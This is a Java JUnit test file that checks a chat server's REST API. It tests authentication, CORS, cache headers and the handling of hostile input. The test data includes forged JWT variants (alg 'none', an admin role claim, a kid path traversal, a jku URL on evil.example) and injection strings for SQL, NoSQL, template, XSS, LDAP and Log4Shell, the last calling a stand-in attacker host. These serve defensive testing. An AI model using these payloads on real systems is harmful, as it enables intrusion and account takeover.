package chat.conclave.edge;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import chat.conclave.Person;
import chat.conclave.Person.Answer;
import chat.conclave.TestServer;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import org.jspecify.annotations.NullUnmarked;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What every answer of REST carries, and who gets none. */
@NullUnmarked
class AnswersTest {
  private static final TestServer SERVER = TestServer.shared();
  private static final Person ANN = SERVER.newcomer("Ann");
  private static final Person NOBODY = Person.stranger(SERVER);

  /** The operations of the contract that need a token: method and path. */
  static List<String> operations() {
    List<String> operations = new ArrayList<>();
    JsonObject paths = Contract.read().getJsonObject("paths");
    for (String path : paths.fieldNames()) {
      for (Map.Entry<String, Object> operation : paths.getJsonObject(path)) {
        if (operation.getValue() instanceof JsonObject described
            && described.containsKey("operationId")
            && !new JsonArray().equals(described.getJsonArray("security"))) {
          operations.add(operation.getKey().toUpperCase(Locale.ROOT) + " " + path);
        }
      }
    }
    assertTrue(operations.size() >= 15, operations.toString());
    return operations;
  }

  private static Answer request(Person person, String operation, Map<String, String> headers) {
    String[] words = operation.split(" ");
    return person.request(
        HttpMethod.valueOf(words[0]),
        words[1].replaceAll("\\{[a-z]+}", UUID.randomUUID().toString()),
        headers,
        null);
  }

  @ParameterizedTest
  @MethodSource("operations")
  void anOperationIsNothingForStrangers(String operation) {
    Answer answer = request(NOBODY, operation, Map.of());
    Expect.problem(401, "unauthenticated", answer);
    assertEquals("Bearer", answer.headers().get("www-authenticate"));
    for (String garbage : List.of("Bearer canary", "Bearer", "Basic Y2FuYXJ5", "canary")) {
      Expect.problem(
          401,
          "unauthenticated",
          request(NOBODY, operation, Map.of("Authorization", garbage)),
          "canary");
    }
    Expect.problem(
        401,
        "unauthenticated",
        request(NOBODY, operation, Map.of("Cookie", ANN.cookie() + "; token=" + ANN.token())));
  }

  static List<String> forged() {
    String[] parts = ANN.token().split("\\.");
    JsonObject header = json(parts[0]);
    JsonObject claims = json(parts[1]);
    JsonObject admin = claims.copy().put("role", "admin");
    String none = part(header.copy().put("alg", "none"));
    char last = parts[2].charAt(parts[2].length() - 1);
    // The same bits but for those that base64url does not use.
    String trailing =
        parts[2].substring(0, parts[2].length() - 1)
            + "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
                .charAt(
                    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_".indexOf(last)
                        ^ 1);
    return List.of(
        none + "." + parts[1] + ".",
        none + "." + part(admin) + "." + parts[2],
        part(new JsonObject().put("alg", "none")) + "." + parts[1] + ".",
        part(header.copy().put("alg", "HS256")) + "." + parts[1] + "." + parts[2],
        part(header.copy().put("typ", "JWT")) + "." + parts[1] + "." + parts[2],
        part(header.copy().put("kid", "../../dev/null")) + "." + parts[1] + "." + parts[2],
        part(header.copy().put("jku", "http://evil.example/")) + "." + parts[1] + "." + parts[2],
        part(header.copy().put("crit", new JsonArray().add("x"))) + "." + parts[1] + "." + parts[2],
        parts[0] + "." + part(admin) + "." + parts[2],
        parts[0] + "." + part(claims.copy().put("exp", 1e300)) + "." + parts[2],
        parts[0] + "." + part(claims.copy().put("exp", "9999999999")) + "." + parts[2],
        parts[0] + "." + parts[1] + ".",
        parts[0] + "." + parts[1],
        parts[0] + "." + parts[1] + "." + parts[2] + ".x.y",
        parts[0] + "." + parts[1] + "." + parts[2] + "=",
        parts[0] + "." + parts[1] + "." + trailing,
        parts[0] + "." + parts[1] + "." + "A".repeat(86),
        parts[0] + "." + parts[1] + "." + parts[2] + "A".repeat(4_000),
        "..",
        "null");
  }

  @ParameterizedTest
  @MethodSource("forged")
  void aForgedTokenOpensNothing(String token) {
    assertEquals(200, ANN.get("/api/user").status());
    Expect.problem(
        401,
        "unauthenticated",
        NOBODY.request(
            HttpMethod.GET, "/api/user", Map.of("Authorization", "Bearer " + token), null));
  }

  private static JsonObject json(String part) {
    return new JsonObject(Buffer.buffer(Base64.getUrlDecoder().decode(part)));
  }

  private static String part(JsonObject json) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(json.encode().getBytes(StandardCharsets.UTF_8));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"/", "/main.js", "/favicon.svg", "/vendor/marked.js", "/api/setup", "/nothing"})
  void everyAnswerCarriesTheSecurityHeaders(String path) {
    for (HttpMethod method : List.of(HttpMethod.GET, HttpMethod.HEAD)) {
      Answer answer = NOBODY.request(method, path, Map.of(), null);
      Expect.headers(answer.headers());
      assertFalse(answer.status() >= 500, path);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"http://evil.example", "null", "http://127.0.0.1:1"})
  void noForeignPageMayReadAnAnswer(String origin) {
    Map<String, String> headers = Map.of("Origin", origin, "Access-Control-Request-Method", "POST");
    Expect.headers(NOBODY.request(HttpMethod.GET, "/api/setup", headers, null).headers());
    Expect.headers(ANN.request(HttpMethod.GET, "/api/user", headers, null).headers());
    Expect.problem(
        405, "invalid", NOBODY.request(HttpMethod.OPTIONS, "/api/auth/login", headers, null));
    Expect.problem(
        403,
        "forbidden",
        NOBODY.request(
            HttpMethod.POST,
            "/api/auth/refresh",
            Map.of("Origin", origin, "Cookie", ANN.cookie()),
            null));
  }

  @Test
  void answersOfTheApiAreNotStored() {
    assertEquals("no-store", ANN.get("/api/user").headers().get("cache-control"));
    assertEquals("no-store", ANN.get("/api/user/api-keys").headers().get("cache-control"));
    assertEquals("no-store", NOBODY.get("/api/user").headers().get("cache-control"));
    assertEquals("no-cache", NOBODY.get("/").headers().get("cache-control"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "'; drop table rooms; --",
        "{\"$ne\":null}",
        "{{7*7}}${7*7}",
        "<script>alert(1)</script>",
        "*)(uid=*",
        "${jndi:ldap://evil.example/a}",
        "a%00b%s"
      })
  void whatLooksLikeCodeIsText(String text) {
    Answer made =
        ANN.post(
            "/api/rooms",
            new JsonObject().put("name", text).put("topic", text).put("visibility", "private"));
    assertEquals(201, made.status());
    JsonObject room = ANN.get("/api/rooms/" + made.json().getString("id")).json();
    assertEquals(text, room.getString("name"));
    assertEquals(text, room.getString("topic"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/api/rooms/1",
        "/api/rooms/'%20or%201=1",
        "/api/rooms/%00",
        "/api/rooms/..%2f..%2fuser",
        "/api/rooms/LOBBY/messages?before=0",
        "/api/rooms/LOBBY/messages?before=-1",
        "/api/rooms/LOBBY/messages?before=9007199254740992",
        "/api/rooms/LOBBY/messages?before=x",
        "/api/rooms/LOBBY/messages?limit=0",
        "/api/rooms/LOBBY/messages?limit=201",
        "/api/rooms/LOBBY/messages?limit=1.5",
        "/api/rooms/LOBBY/messages?limit=99999999999999999999"
      })
  void whatIsNoIdOrNumberIsRefused(String path) {
    Answer answer = ANN.get(path.replace("LOBBY", ANN.lobby()));
    assertTrue(List.of(404, 422).contains(answer.status()), answer.status() + "");
    Expect.problem(answer.status(), answer.code(), answer, "or 1=1");
  }

  @Test
  void aPrivateRoomOfOthersIsNotToldFromNone() {
    String secret = SERVER.newcomer("Bob").room("Secret", "private");
    for (String rest : List.of("", "/messages", "/members")) {
      Answer there = ANN.get("/api/rooms/" + secret + rest);
      Answer nowhere = ANN.get("/api/rooms/" + UUID.randomUUID() + rest);
      Expect.problem(404, "not-found", there, "Secret");
      assertEquals(nowhere.body(), there.body());
    }
  }
}
